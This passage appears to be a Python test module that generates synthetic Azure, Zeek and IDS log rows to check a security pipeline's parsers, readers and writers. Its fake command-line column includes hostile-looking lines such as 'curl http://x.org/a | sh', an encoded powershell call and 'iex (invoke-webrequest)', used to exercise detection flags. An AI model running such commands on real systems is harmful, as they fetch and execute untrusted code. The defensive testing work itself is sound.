"""Queries of the parsers, sources and sinks, with raw rows made from the events table.

The raw columns are SQL that both engines read alike; what a parser should give is stated in
SQL again, from the same raw columns.
"""

from __future__ import annotations

import uuid

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from .. import constants as K
from ..operators import graph as G
from ..operators import protocols as T
from ..operators import recon as C
from ..operators import scores as R
from ..operators import training as D
from ..operators.ranges import persisted
from ..sources import logs as Z
from ..sources import side
from . import adapters as I
from .catalog import AREAS, BASE, DAY, DEDUPED, FLAGS, HIGH, NETWORK, NODES, RARITY, REACH, SPLIT, STAGE, WINDOWS, drawn, query

# --- pieces of SQL -----------------------------------------------------------------------
STAMPS = {"2025-12-14 16:00:00.250000": "1765728000.25", "22/04/2025, 13:03:00.020": "1745326980.02", "2025-12-14T06:16:15.290604-0500": "1765710975.290604", "": None, "nan": None, "1765728640": None, "no time": None, "14/12/2025 16:00:00": "1765728000", "14/12/2025": "1765670400", "2025-12-14 16:00:00": "1765728000", "14/12/2025, 04:00:00 PM": "1765728000", "2025-12-14T16:00:00Z": "1765728000"}
STAMP = "CASE k % 12 " + " ".join(f"WHEN {i} THEN '{t}'" for i, t in enumerate(STAMPS)) + " END"
SECONDS = "CASE k % 12 " + " ".join(f"WHEN {i} THEN {v or 'NULL'}" for i, v in enumerate(STAMPS.values())) + " END"
SCENARIO = "'sc' || CAST(user_id % 7 + 1 AS VARCHAR(4))"


def filled(x: str) -> str:
    """Trimmed text; null for blank and nan."""
    return f"(CASE WHEN trim({x}) <> '' AND lower(trim({x})) <> 'nan' THEN trim({x}) END)"


def whole(x: str) -> str:
    return f"coalesce(CASE WHEN isfinite(TRY_CAST(trim({x}) AS DOUBLE)) THEN CAST(trunc(TRY_CAST(trim({x}) AS DOUBLE)) AS BIGINT) END, 0)"


def host(h: str, ip: str = "NULL") -> str:
    h, ip = (filled(x) if x != "NULL" else "CAST(NULL AS VARCHAR)" for x in (h, ip))
    return f"(scenario || CASE WHEN {h} IS NOT NULL THEN '::' || {h} WHEN {ip} IS NOT NULL THEN '::ip::' || {ip} ELSE '::host::UNKNOWN' END)"


def proc(prefix: str, pid: str, name: str) -> str:
    pid, name = (filled(x) if x != "NULL" else "CAST(NULL AS VARCHAR)" for x in (pid, name))
    return f"({prefix} || CASE WHEN {pid} IS NOT NULL THEN '::proc::' || {pid} WHEN {name} IS NOT NULL THEN '::procname::' || {name} ELSE '::proc::UNKNOWN' END)"


def net(ip: str, port: str = "'0'", domain: str = "NULL") -> str:
    ip, domain, port = filled(ip) if ip != "NULL" else "CAST(NULL AS VARCHAR)", filled(domain) if domain != "NULL" else "CAST(NULL AS VARCHAR)", whole(port)
    return f"CASE WHEN {domain} IS NOT NULL AND {ip} IS NOT NULL THEN {domain} || '|' || {ip} || ':' || CAST({port} AS VARCHAR) WHEN {domain} IS NOT NULL THEN {domain} WHEN {ip} IS NOT NULL AND {port} <> 0 THEN {ip} || ':' || CAST({port} AS VARCHAR) WHEN {ip} IS NOT NULL THEN {ip} ELSE 'UNKNOWN_NET' END"


def raw(columns: dict[str, str]) -> str:
    listed = ", ".join(f"{e} AS {n}" for n, e in columns.items())
    return f"WITH {I.SQL_FIRST}, raw AS (SELECT event_id AS row_idx, {SCENARIO} AS scenario, {SECONDS} AS ts, {listed} FROM first_step)"


def rows(spark: SparkSession, sf_dir: str, columns: dict[str, str], names: dict[str, str], source: str) -> DataFrame:
    """The raw rows with a log's own column names."""
    e = I.first_step(spark.read.parquet(f"{sf_dir}/events.parquet"))
    made = e.selectExpr("event_id AS row_idx", f"{SCENARIO} AS scenario", *[f"{x} AS `{names.get(n, n)}`" for n, x in columns.items()])
    return made.withColumn("source_file", F.lit(source))


def scratch(spark: SparkSession) -> str:
    """A new folder below the shared one."""
    persisted(spark.range(0))  # sets it
    return f"{spark.sparkContext.getCheckpointDir()}/written-{uuid.uuid4().hex}"


def seconds() -> F.Column:
    return F.round("ts", 5).alias("ts")


# --- parsers -----------------------------------------------------------------------------
ADDRESS = "'10.0.' || CAST(k % 3 AS VARCHAR(9)) || '.' || CAST(k % 7 AS VARCHAR(9))"
CONN = {
    "tgen": STAMP, "computer": "CASE WHEN k % 3 = 0 THEN ' h' || CAST(k % 5 AS VARCHAR(9)) || ' ' WHEN k % 3 = 1 THEN 'nan' END", "machine": "CASE WHEN k % 5 = 0 THEN 'm1' ELSE '' END", "sip": f"CASE WHEN k % 2 = 0 THEN {ADDRESS} END",
    "pid": "CASE k % 4 WHEN 0 THEN '12' WHEN 1 THEN ' ' WHEN 2 THEN 'NaN' END", "pname": "CASE WHEN k % 5 < 3 THEN 'p.exe' ELSE '' END", "dip": f"CASE WHEN k % 6 > 0 THEN {ADDRESS} END", "dport": "CASE k % 5 WHEN 0 THEN '443.0' WHEN 1 THEN 'x' WHEN 2 THEN '0' WHEN 3 THEN ' 8080 ' END",
    "sent": "CASE k % 4 WHEN 0 THEN '5.7' WHEN 1 THEN 'inf' WHEN 2 THEN '-3.9' END", "recv": "CASE WHEN k % 3 = 0 THEN '1e3' ELSE 'nan' END", "dir": "CASE k % 3 WHEN 0 THEN ' Outbound' WHEN 1 THEN 'IN' END", "prot": "CASE WHEN k % 2 = 0 THEN 'TCP' END",
}
CONN_NAMES = {"tgen": "TimeGenerated [UTC]", "computer": "Computer", "machine": "Machine", "sip": "SourceIp", "pid": "Process", "pname": "ProcessName", "dip": "DestinationIp", "dport": "DestinationPort", "sent": "BytesSent", "recv": "BytesReceived", "dir": "Direction", "prot": "Protocol"}
CONN_HOST = host(f"coalesce({filled('computer')}, {filled('machine')})", "sip")


@query(f"""{raw(CONN)} SELECT row_idx, 'CONNECT' AS edge_type, {proc(CONN_HOST, 'pid', 'pname')} AS src_key, {net('dip', 'dport')} AS dst_key, CAST(round(ts, 5) AS DOUBLE) AS ts, {whole('sent')} AS bytes_sent, {whole('recv')} AS bytes_recv, coalesce(lower({filled('dir')}), '') AS direction, coalesce(lower({filled('prot')}), '') AS protocol, {whole('dport')} AS dst_port FROM raw""")
def parse_azure_conn(spark, sf_dir):
    e = Z.azure_conn(rows(spark, sf_dir, CONN, CONN_NAMES, "azure_conn.csv"))
    return e.select("row_idx", "edge_type", "src_key", "dst_key", seconds(), "bytes_sent", "bytes_recv", "direction", "protocol", "dst_port")


COMMAND = "CASE k % 9 WHEN 0 THEN 'curl http://x.org/a | sh' WHEN 1 THEN 'powershell -enc AAAA' WHEN 2 THEN ' echo http://a.b.com http://a.b.com ' WHEN 3 THEN 'wget file' WHEN 4 THEN 'certutil.exe -f' WHEN 5 THEN 'iex (invoke-webrequest)' WHEN 6 THEN 'd41d8cd98f00b204e9800998ecf8427e pypi.org' WHEN 7 THEN 'nan' END"
ALL_FLAGS = {**FLAGS, "has_powershell": r"\bpowershell(\.exe)?\b"}
TOLD = ", ".join(f"CAST(regexp_matches(lower(cmd), '{p}') AS INT) AS {n}" for n, p in ALL_FLAGS.items()) + r""", len(list_distinct(regexp_extract_all(cmd, '(?i)\bhttps?://[^\s"''<>]+'))) AS n_urls, len(list_distinct(regexp_extract_all(cmd, '\b[a-f0-9]{32}\b'))) AS n_md5, CAST(contains(cmd, 'pypi.org') AS INT) AS registry"""
PROCESS = {"tgen": STAMP, "computer": CONN["computer"], "pid": CONN["pid"], "exe": "CASE WHEN k % 5 = 0 THEN 'x.exe' END", "shown": "CASE WHEN k % 2 = 0 THEN 'Shown' ELSE 'nan' END", "command": COMMAND}
PROCESS_NAMES = {"tgen": "TimeGenerated", "computer": "Computer", "pid": "Process", "exe": "ExecutableName", "shown": "DisplayName", "command": "CommandLine"}


def told(e: DataFrame) -> list:
    return [*[F.col(n).cast("int").alias(n) for n in ALL_FLAGS], F.col("n_urls").cast("bigint").alias("n_urls"), F.col("n_md5").cast("bigint").alias("n_md5"), F.col("has_known_registry_domain").cast("int").alias("registry")]


def child(pid: str, name: str, prefix: str) -> str:
    return f"{prefix} || '::proc::HOST' AS src_key, {proc(prefix, pid, name)} AS dst_key"


@query(f"""{raw(PROCESS)}, c AS (SELECT *, coalesce({filled('command')}, '') AS cmd FROM raw) SELECT row_idx, 'EXEC' AS edge_type, {child('pid', f"coalesce({filled('exe')}, {filled('shown')})", host('computer'))}, CAST(round(ts, 5) AS DOUBLE) AS ts, cmd AS cmdline, {TOLD} FROM c""")
def parse_azure_process(spark, sf_dir):
    e = Z.azure_process(rows(spark, sf_dir, PROCESS, PROCESS_NAMES, "azure_process.csv"))
    return e.select("row_idx", "edge_type", "src_key", "dst_key", seconds(), "cmdline", *told(e))


SYSLOG = {"tgen": STAMP, "computer": CONN["computer"], "named": CONN["machine"], "ip": CONN["sip"], "pname": CONN["pname"], "command": COMMAND}
SYSLOG_NAMES = {"tgen": "EventTime [UTC]", "computer": "Computer", "named": "HostName", "ip": "HostIP", "pname": "ProcessName", "command": "SyslogMessage"}


@query(f"""{raw(SYSLOG)}, c AS (SELECT *, coalesce({filled('command')}, '') AS cmd FROM raw) SELECT row_idx, 'EXEC' AS edge_type, {child('NULL', 'pname', host(f"coalesce({filled('computer')}, {filled('named')})", 'ip'))}, CAST(round(ts, 5) AS DOUBLE) AS ts, cmd AS cmdline, {TOLD} FROM c""")
def parse_azure_syslog(spark, sf_dir):
    e = Z.azure_syslog(rows(spark, sf_dir, SYSLOG, SYSLOG_NAMES, "azure_syslog.csv"))
    return e.select("row_idx", "edge_type", "src_key", "dst_key", seconds(), "cmdline", *told(e))


MESSAGES = {"talked to 5.6.7.8 via /etc/x": (["5.6.7.8"], ["/etc/x"]), "ran C:\\a\\b.exe and /usr/bin/curl, then /usr/bin/curl, again": ([], ["C:\\a\\b.exe", "/usr/bin/curl,"]), "10.0.0.1 10.0.0.2 10.0.0.3 10.0.0.4 10.0.0.5 10.0.0.6 10.0.0.1": ([f"10.0.0.{i}" for i in range(1, 6)], []), "nothing here": ([], [])}
BY_MESSAGE = lambda pick: "CASE k % 5 " + " ".join(f"WHEN {i} THEN {pick(m)}" for i, m in enumerate(MESSAGES))
LISTED = lambda part: BY_MESSAGE(lambda m: "[" + ", ".join(f"'{x}'" for x in MESSAGES[m][part]) + "]" if MESSAGES[m][part] else "CAST([] AS VARCHAR[])") + " ELSE CAST([] AS VARCHAR[]) END"
QUOTED = lambda m: "'" + m.replace("\\", "{}") + "'"
FIELDS = {
    "Image": "CASE k % 4 WHEN 0 THEN 'a.exe' WHEN 1 THEN 'B.exe' END", "TargetImage": "CASE WHEN k % 8 = 2 THEN 't.exe' END", "ParentImage": "CASE k % 3 WHEN 0 THEN 'b.EXE' WHEN 1 THEN 'par.exe' END", "ProcessId": "CASE WHEN k % 2 = 0 THEN CAST(k % 9 AS VARCHAR(9)) ELSE '' END",
    "ParentProcessID": "CASE WHEN k % 3 = 1 THEN '77' END", "DestinationIp": f"CASE WHEN k % 7 < 3 THEN {ADDRESS} END", "DestinationPort": "CASE k % 3 WHEN 0 THEN '80' WHEN 1 THEN 'http' END", "DestinationHostname": "CASE WHEN k % 6 = 0 THEN 'd.org' END", "Initiated": "CASE k % 4 WHEN 0 THEN 'True' WHEN 1 THEN 'false' END",
}
#: A command line as text and as it stands in the XML.
WRITTEN = {"a b": "a b", "x<1> & y": "x&lt;1&gt; &amp; y", "/bin/sh": "&#47;bin&#x2F;sh", "caf\u00e9 \u00a0z &amp;": "caf&eacute; &nbsp;z &amp;amp;", "&unknown; &": "&unknown; &amp;"}
COMMANDED = "CASE k % 6 " + " ".join(f"WHEN {i} THEN '{t}'" for i, t in enumerate(WRITTEN)) + " END"
ENCODED = "CASE k % 6 " + " ".join(f"WHEN {i} THEN '{t}'" for i, t in enumerate(WRITTEN.values())) + " END"
XML = " || ".join(["''", *[f"coalesce('<Data Name=\"{n}\">' || ({e}) || '</Data>', '')" for n, e in FIELDS.items()], f"coalesce('<Data Name=\"CommandLine\">' || ({ENCODED}) || '</Data>', '')", "'<Data Name=\"Protocol\">TCP</Data>'"])
EVENTS = {"tgen": STAMP, "computer": CONN["computer"], "xml": XML, "msg": "replace(" + BY_MESSAGE(QUOTED) + " END, '{}', chr(92))"}
EVENTS_NAMES = {"tgen": "TimeGenerated [UTC]", "computer": "Computer", "xml": "EventData", "msg": "Message"}
EVENTS_HOST = host("computer")
EVENTS_SQL = f"""WITH {I.SQL_FIRST}, raw AS (SELECT event_id AS row_idx, {SCENARIO} AS scenario, {SECONDS} AS ts, {EVENTS["computer"]} AS computer, coalesce({FIELDS["Image"]}, {FIELDS["TargetImage"]}) AS img, {FIELDS["ParentImage"]} AS pimg, nullif({FIELDS["ProcessId"]}, '') AS pid, {FIELDS["ParentProcessID"]} AS ppid, {FIELDS["DestinationIp"]} AS dip, {FIELDS["DestinationPort"]} AS dport, {FIELDS["DestinationHostname"]} AS dhost,
CASE WHEN k % 4 = 0 THEN 'outbound' ELSE 'unknown' END AS dir, coalesce({COMMANDED}, '') AS cmd, coalesce({EVENTS["msg"]}, '') AS msg, {LISTED(0)} AS ips, {LISTED(1)} AS paths FROM first_step),
p AS (SELECT *, {EVENTS_HOST} AS prefix FROM raw),
q AS (SELECT *, CASE WHEN img IS NOT NULL THEN {proc('prefix', 'pid', 'img')} END AS child, CASE WHEN pimg IS NOT NULL AND lower(pimg) <> lower(img) THEN {proc('prefix', 'ppid', 'pimg')} ELSE prefix || '::proc::HOST' END AS parent, CASE WHEN cmd <> '' THEN cmd ELSE msg END AS shown FROM p),
e AS (SELECT row_idx, ts, 'EXEC' AS edge_type, parent AS src_key, child AS dst_key, shown AS cmdline, '' AS evidence, '' AS direction FROM q WHERE img IS NOT NULL UNION ALL SELECT row_idx, ts, 'WRITE', child, img, '', shown, '' FROM q WHERE img IS NOT NULL
UNION ALL SELECT row_idx, ts, 'CONNECT', coalesce(child, prefix || '::proc::HOST'), {net('dip', 'dport', 'dhost')}, '', shown, dir FROM q WHERE dip IS NOT NULL
UNION ALL SELECT row_idx, ts, 'CONNECT', coalesce(child, prefix || '::proc::HOST'), unnest(ips), '', msg, 'unknown' FROM q UNION ALL SELECT row_idx, ts, 'WRITE', coalesce(child, prefix || '::proc::HOST'), unnest(paths), '', msg, '' FROM q)
SELECT row_idx, edge_type, src_key, dst_key, CAST(round(ts, 5) AS DOUBLE) AS ts, cmdline, evidence, direction FROM e"""


@query(EVENTS_SQL)
def parse_azure_events(spark, sf_dir):
    e = Z.azure_events(rows(spark, sf_dir, EVENTS, EVENTS_NAMES, "azure_events.csv"))
    return e.select("row_idx", "edge_type", "src_key", "dst_key", seconds(), *[F.coalesce(c, F.lit("")).alias(c) for c in ("cmdline", "evidence", "direction")])


ZEEK = {
    "ts_": STAMP, "orig": f"CASE WHEN k % 5 > 0 THEN {ADDRESS} END", "resp": CONN["dip"], "port": CONN["dport"], "sent": CONN["sent"], "recv": CONN["recv"], "proto_": "CASE WHEN k % 2 = 0 THEN 'udp' END", "svc": "CASE k % 3 WHEN 0 THEN ' dns' WHEN 1 THEN 'nan' END",
    "dur": "CASE k % 3 WHEN 0 THEN '0.25' WHEN 1 THEN 'x' END", "uid_": "CASE WHEN k % 4 > 0 THEN 'u' || CAST(k AS VARCHAR(9)) ELSE '' END", "fname": "CASE k % 3 WHEN 0 THEN 'n.txt' WHEN 1 THEN ' ' END", "fuid_": "CASE WHEN k % 2 = 0 THEN 'F' || CAST(k AS VARCHAR(9)) END",
    "sha": "CASE WHEN k % 2 = 0 THEN 'ABcd' END", "mime": "CASE WHEN k % 3 = 0 THEN 'text/html' END", "server": "CASE k % 4 WHEN 0 THEN 's.org' WHEN 1 THEN 'nan' END", "ver": "CASE WHEN k % 2 = 1 THEN 'TLSv12' END", "valid": "CASE WHEN k % 3 = 2 THEN 'ok' END",
}
ZEEK_NAMES = {"ts_": "ts", "orig": "id.orig_h", "resp": "id.resp_h", "port": "id.resp_p", "sent": "orig_bytes", "recv": "resp_bytes", "proto_": "proto", "svc": "service", "dur": "duration", "uid_": "uid", "fname": "filename", "fuid_": "fuid", "sha": "sha256", "mime": "mime_type", "server": "server_name", "ver": "version", "valid": "validation_status"}
ZEEK_SRC = f"{host('NULL', 'orig')} || '::proc::HOST' AS src_key"
CONN_SQL = f"""SELECT row_idx, 'CONNECT' AS edge_type, {ZEEK_SRC}, {net('resp', 'port')} AS dst_key, CAST(round(ts, 5) AS DOUBLE) AS ts, {whole('sent')} AS bytes_sent, {whole('recv')} AS bytes_recv, coalesce({filled('proto_')}, '') AS proto, coalesce({filled('svc')}, '') AS service, CASE WHEN dur = '0.25' THEN 0.25 ELSE 0 END AS duration, {filled('uid_')} AS uid FROM raw"""
CONN_SHOWN = ("row_idx", "edge_type", "src_key", "dst_key", "ts", "bytes_sent", "bytes_recv", "proto", "service", "duration", "uid")


def zeek(spark, sf_dir, log: str) -> DataFrame:
    return rows(spark, sf_dir, ZEEK, ZEEK_NAMES, f"{log}.csv")


@query(f"{raw(ZEEK)} {CONN_SQL}")
def parse_zeek_conn(spark, sf_dir):
    return Z.zeek_conn(zeek(spark, sf_dir, "zeek_conn")).withColumn("ts", F.round("ts", 5)).select(*CONN_SHOWN)


@query(f"""{raw(ZEEK)} SELECT row_idx, 'WRITE' AS edge_type, {ZEEK_SRC}, coalesce({filled('fname')}, scenario || '::file::' || coalesce({filled('fuid_')}, 'UNKNOWN')) AS dst_key, CAST(round(ts, 5) AS DOUBLE) AS ts, CAST(0 AS BIGINT) AS bytes, coalesce({filled('mime')}, '') AS mime_type, lower(coalesce({filled('sha')}, '')) AS sha256, {filled('fuid_')} AS fuid FROM raw""")
def parse_zeek_files(spark, sf_dir):
    return Z.zeek_files(zeek(spark, sf_dir, "zeek_files")).select("row_idx", "edge_type", "src_key", "dst_key", seconds(), "bytes", "mime_type", "sha256", "fuid")


@query(f"""{raw(ZEEK)} SELECT row_idx, 'CONNECT' AS edge_type, {ZEEK_SRC}, {net('resp', 'port', 'server')} AS dst_key, CAST(round(ts, 5) AS DOUBLE) AS ts, coalesce({filled('ver')}, '') AS tls_version, coalesce({filled('server')}, '') AS sni, coalesce({filled('valid')}, '') AS validation_status, {whole('port')} AS dst_port FROM raw""")
def parse_zeek_ssl(spark, sf_dir):
    return Z.zeek_ssl(zeek(spark, sf_dir, "zeek_ssl")).select("row_idx", "edge_type", "src_key", "dst_key", seconds(), "tls_version", "sni", "validation_status", "dst_port")


#: Lines of an IDS log: three kinds of records, others, blank and broken ones.
EVE_KIND = "CASE k % 6 WHEN 0 THEN 'http' WHEN 1 THEN 'fileinfo' WHEN 2 THEN 'alert' WHEN 3 THEN 'dns' END"
EVE = {"kind": EVE_KIND, "dip": f"CASE WHEN k % 4 > 0 THEN {ADDRESS} END", "sip": ADDRESS, "port": "k % 3 * 40", "status": "200 + k % 5 * 50", "size": "k * 3", "fname": "CASE WHEN k % 5 > 0 THEN '/f' || CAST(k % 5 AS VARCHAR(9)) END", "sig": "'ET rule ' || CAST(k % 4 AS VARCHAR(9))", "bad": "k % 12 >= 10"}
EVE_SQL = f"""r AS (SELECT *, row_number() OVER (ORDER BY row_idx) - 1 AS line FROM raw WHERE kind IS NOT NULL), x AS (SELECT *, scenario || '::ip::' || sip || '::proc::HOST' AS src, {net('dip', 'CAST(port AS VARCHAR)')} AS dst FROM r)
SELECT {{0}} AS row_idx, 'CONNECT' AS edge_type, src AS src_key, dst AS dst_key, CAST(status AS BIGINT) AS n, '' AS told FROM x WHERE kind = 'http' UNION ALL SELECT {{0}}, 'REDIRECT', dst, dst, status, '' FROM x WHERE kind = 'http' AND status BETWEEN 300 AND 399
UNION ALL SELECT {{0}}, 'WRITE', src, coalesce(fname, 'UNKNOWN_FILE'), size, '' FROM x WHERE kind = 'fileinfo' UNION ALL SELECT {{0}}, 'EXEC', src, scenario || '::proc::ALERT', 0, sig FROM x WHERE kind = 'alert'"""


def eve_records(spark, sf_dir) -> DataFrame:
    r = rows(spark, sf_dir, EVE, {}, "eve.json")
    t = lambda c: F.col(c).cast("string")
    http, told_, none = F.struct(t("status").alias("status"), t("size").alias("length")), F.struct(F.col("sig").alias("signature")), F.lit(None)
    return r.select("row_idx", "scenario", "source_file", "bad", F.col("kind").alias("event_type"), F.col("sip").alias("src_ip"), F.col("dip").alias("dest_ip"), t("port").alias("dest_port"), F.when(F.col("kind") == "http", http).otherwise(none).alias("http"), F.when(F.col("kind") == "fileinfo", F.struct(F.col("fname").alias("filename"), t("size").alias("size"))).otherwise(none).alias("fileinfo"), F.when(F.col("kind") == "alert", told_).otherwise(none).alias("alert"))


def eve_shown(e: DataFrame) -> DataFrame:
    n = F.coalesce(*[F.col(c) for c in ("status_code", "http_status", "bytes")], F.lit(0)).cast("bigint")
    return e.select("row_idx", "edge_type", "src_key", "dst_key", n.alias("n"), F.coalesce("cmdline", F.lit("")).alias("told"))


@query(f"{raw(EVE)}, {EVE_SQL.format('row_idx')}")
def parse_eve(spark, sf_dir):
    r = eve_records(spark, sf_dir).where("event_type IS NOT NULL").drop("bad")
    full = r.select("row_idx", "scenario", "source_file", *[f.split()[0] for f in ()], *[(F.col(c) if c in r.columns else F.lit(None).cast("string")).alias(c) for c in ("event_type", "timestamp", "src_ip", "dest_ip", "dest_port", "flow_id")], F.struct(F.col("http.status"), F.col("http.length"), *[F.lit(None).cast("string").alias(c) for c in ("http_method", "url", "http_user_agent")]).alias("http"), "fileinfo", "alert")
    return eve_shown(Z.eve(full))


# --- sources and sinks -------------------------------------------------------------------
@query(f"{raw(EVE)}, {EVE_SQL.format('line')}")
def read_eve_lines(spark, sf_dir):
    """Lines written and read again: blank and broken ones don't count."""
    r = eve_records(spark, sf_dir)
    broken = F.when(F.col("bad"), "{broken").otherwise(" ")
    path = f"{scratch(spark)}/eve.json"
    r.orderBy("row_idx").select(F.when(F.col("event_type").isNull(), broken).otherwise(F.to_json(F.struct("scenario", "event_type", "src_ip", "dest_ip", "dest_port", "http", "fileinfo", "alert"))).alias("value"), F.col("scenario")).coalesce(1).select("value").write.text(path)
    lines = Z.read_log(spark, path, "eve", "sc")
    raw_lines = spark.read.text(path).where(F.trim("value") != "").where(F.try_parse_json("value").isNotNull()).select(F.get_json_object("value", "$.scenario").alias("scenario"), "_metadata")
    named = Z.numbered(raw_lines).select("scenario", "row_idx")
    return eve_shown(Z.eve(lines.drop("scenario").join(named, "row_idx")))


@query(f"{raw(ZEEK)}, n AS (SELECT * REPLACE (row_number() OVER (ORDER BY row_idx) - 1 AS row_idx) FROM raw) {CONN_SQL.replace('FROM raw', 'FROM n').replace('scenario ||', chr(39) + 'sc1' + chr(39) + ' ||')}")
def read_csv_log(spark, sf_dir):
    """A CSV log written and read again, rows numbered in file order."""
    path = f"{scratch(spark)}/zeek_conn.csv"
    r = zeek(spark, sf_dir, "zeek_conn")
    r.orderBy("row_idx").coalesce(1).drop("row_idx", "scenario", "source_file").write.option("header", "true").option("escape", '"').csv(path)
    return Z.zeek_conn(Z.read_log(spark, path, "zeek_conn", "sc1")).withColumn("ts", F.round("ts", 5)).select(*CONN_SHOWN)


@query(f"{raw(ZEEK)}, n AS (SELECT * REPLACE (row_number() OVER (ORDER BY row_idx) - 1 AS row_idx) FROM raw) SELECT * FROM ({CONN_SQL.replace('FROM raw', 'FROM n').replace('scenario ||', chr(39) + 'sc1' + chr(39) + ' ||')}) WHERE row_idx < 500")
def read_parquet_twin(spark, sf_dir):
    """The Parquet file beside a CSV file is preferred, and a limit keeps the first rows."""
    top = scratch(spark)
    r = zeek(spark, sf_dir, "zeek_conn").orderBy("row_idx").coalesce(1).drop("row_idx", "scenario", "source_file")
    r.write.parquet(f"{top}/zeek_conn.parquet")
    r.limit(1).write.csv(f"{top}/zeek_conn.csv")
    return Z.zeek_conn(Z.read_log(spark, f"{top}/zeek_conn.csv", "zeek_conn", "sc1", 500)).withColumn("ts", F.round("ts", 5)).select(*CONN_SHOWN)


@query(f"WITH {I.SQL_SCORES} SELECT row_number() OVER (ORDER BY row_seq) - 1 AS row_seq, scenario, t, etype, src, dst, score, is_ioc, source_file, row_idx, ioc_type FROM scores")
def score_table_round_trip(spark, sf_dir):
    path = f"{scratch(spark)}/edge_scores.csv"
    side.write_scores(I.scores(spark, sf_dir).orderBy("row_seq").coalesce(1), path)
    found = side.scores(spark, side.scores_path(spark, path.rsplit("/", 1)[0]))
    return found.select("row_seq", "scenario", "t", "etype", "src", "dst", "score", "is_ioc", "source_file", "row_idx", "ioc_type")


@query(f"WITH {I.SQL_SCORES} SELECT scenario, count(*) AS n, CAST(sum(t) AS BIGINT) AS t, CAST(sum(src) AS BIGINT) AS src FROM scores WHERE scenario <> 'sc2' GROUP BY scenario UNION ALL SELECT 'sc2', 1, 5, 6")
def partitioned_round_trip(spark, sf_dir):
    """Streams stored by scenario; writing one again replaces it alone."""
    path = f"{scratch(spark)}/stream"
    side.write_partitioned(I.scores(spark, sf_dir), path)
    side.write_partitioned(spark.range(1).select(F.lit("sc2").alias("scenario"), *[F.lit(v).cast(dict(I.scores(spark, sf_dir).dtypes)[c]).alias(c) for c, v in {c: {"t": 5, "src": 6}.get(c, 0) for c in I.scores(spark, sf_dir).columns if c != "scenario"}.items()]), path)
    return side.read_stream(spark, path).groupBy("scenario").agg(F.count("*").alias("n"), F.sum("t").alias("t"), F.sum("src").alias("src"))


TRUTH = f"WITH {I.SQL_SCORES}, hits AS (SELECT DISTINCT scenario, source_file, row_idx % 400 AS line, ioc_type FROM scores WHERE is_ioc = 1)"
FIRST_TYPE = "CASE ioc_type " + " ".join(f"WHEN '{t}' THEN {i}" for i, t in enumerate(K.IOC_PRIORITY)) + " END"


def truth_path(spark, sf_dir) -> str:
    s = I.scores(spark, sf_dir).where("is_ioc = 1")
    item = F.struct(F.col("ioc_type").alias("type"), F.concat(F.lit("v"), "ioc_type").alias("value"), F.col("lines"))
    by = s.groupBy("scenario", "source_file", "ioc_type").agg(F.collect_set(F.col("row_idx") % 400).alias("lines"))
    files = by.groupBy("scenario", "source_file").agg(F.struct(F.collect_list(item).alias("iocs")).alias("f"))
    scenarios = files.groupBy("scenario").agg(F.struct(F.map_from_entries(F.collect_list(F.struct("source_file", "f"))).alias("files")).alias("s"))
    path = f"{scratch(spark)}/truth"
    scenarios.agg(F.to_json(F.map_from_entries(F.collect_list(F.struct("scenario", "s")))).alias("value")).coalesce(1).write.text(path)
    return path


@query(f"{TRUTH} SELECT scenario, source_file, line, arg_min(ioc_type, {FIRST_TYPE}) AS ioc_type FROM hits GROUP BY ALL")
def truth_lines_of_file(spark, sf_dir):
    """A ground-truth file's lines, each with its most specific type."""
    return side.line_types(side.ground_truth(spark, truth_path(spark, sf_dir))[0])


@query(f"{TRUTH} SELECT DISTINCT scenario, ioc_type AS type, 'v' || ioc_type AS value FROM hits")
def truth_values_of_file(spark, sf_dir):
    return side.ground_truth(spark, truth_path(spark, sf_dir))[1]


@query("SELECT 'sc' || CAST(n_regionkey + 1 AS VARCHAR) AS scenario, 'T' || CAST(n_nationkey AS VARCHAR) AS technique, lower(n_name) AS tactic FROM nation")
def layers_of_files(spark, sf_dir):
    """Techniques of layer files, one file a scenario."""
    n = spark.read.parquet(f"{sf_dir}/nation.parquet")
    path = scratch(spark)
    per = n.groupBy("n_regionkey").agg(F.to_json(F.struct(F.collect_list(F.struct(F.concat(F.lit("T"), "n_nationkey").alias("techniqueID"), F.lower("n_name").alias("tactic"))).alias("techniques"))).alias("value"))
    for key in range(5):  # five regions
        per.where(F.col("n_regionkey") == key).select("value").coalesce(1).write.text(f"{path}/sc{key + 1}")
    return side.layers(spark, path, "*")


@query("SELECT t.* FROM (VALUES " + ", ".join(f"('{a}', '{b}')" for a, b in sorted(K.IOC_STAGE.items())) + ") t(name, stage) UNION ALL SELECT * FROM (VALUES " + ", ".join(f"('{a}', '{b}')" for a, b in sorted(K.TACTIC_STAGE.items()) if a not in K.IOC_STAGE) + ")")
def stage_maps_of_file(spark, sf_dir):
    """Stage maps written to a file and read again."""
    path = f"{scratch(spark)}/stages"
    spark.createDataFrame([(__import__("json").dumps({"stages": list(K.STAGES), "ioc_type_to_stage": K.IOC_STAGE, "tactic_to_stage": {a: b for a, b in K.TACTIC_STAGE.items() if a not in K.IOC_STAGE}}),)], "value string").coalesce(1).write.text(path)
    found = side.stage_maps(spark, path)
    return spark.createDataFrame([(a, b) for m in ("ioc_type_to_stage", "tactic_to_stage") for a, b in found[m].items()], "name string, stage string")


@query("SELECT 'run_sc' || CAST(r_regionkey AS VARCHAR) AS run, 'sc' || CAST(r_regionkey AS VARCHAR) AS scenario, CASE WHEN r_regionkey > 0 THEN CAST(r_regionkey AS DOUBLE) / 8 END AS auroc, CAST(r_regionkey * 10 AS BIGINT) AS epochs FROM region")
def run_summaries_of_files(spark, sf_dir):
    """Typed summaries of runs, from the JSON file in each run's folder."""
    from ..operators import reports

    r = spark.read.parquet(f"{sf_dir}/region.parquet")
    path = scratch(spark)
    for key in range(5):  # five regions
        one = r.where(F.col("r_regionkey") == key).select(F.to_json(F.struct(F.struct(F.when(F.col("r_regionkey") > 0, F.col("r_regionkey") / 8).alias("auroc"), (F.col("r_regionkey") * 10).alias("epochs")).alias("best"))).alias("value"))
        side.write_text(one, f"{path}/run_sc{key}", "run_summary.json")
    return reports.summaries(spark, path, {"auroc": ("$.best.auroc", "double"), "epochs": ("$.best.epochs", "bigint")}).select("run", "scenario", "auroc", "epochs")


def graphml_file(spark, sf_dir) -> str:
    n = spark.read.parquet(f"{sf_dir}/nation.parquet")
    path = f"{scratch(spark)}/graph"
    node = F.concat(F.lit('<node id="n'), "n_nationkey", F.lit('"><data key="name">'), "n_name", F.lit('</data><data key="region">'), "n_regionkey", F.lit("</data></node>"))
    edge = F.concat(F.lit('<edge source="n'), "n_nationkey", F.lit('" target="n'), "n_regionkey", F.lit('"></edge>'))
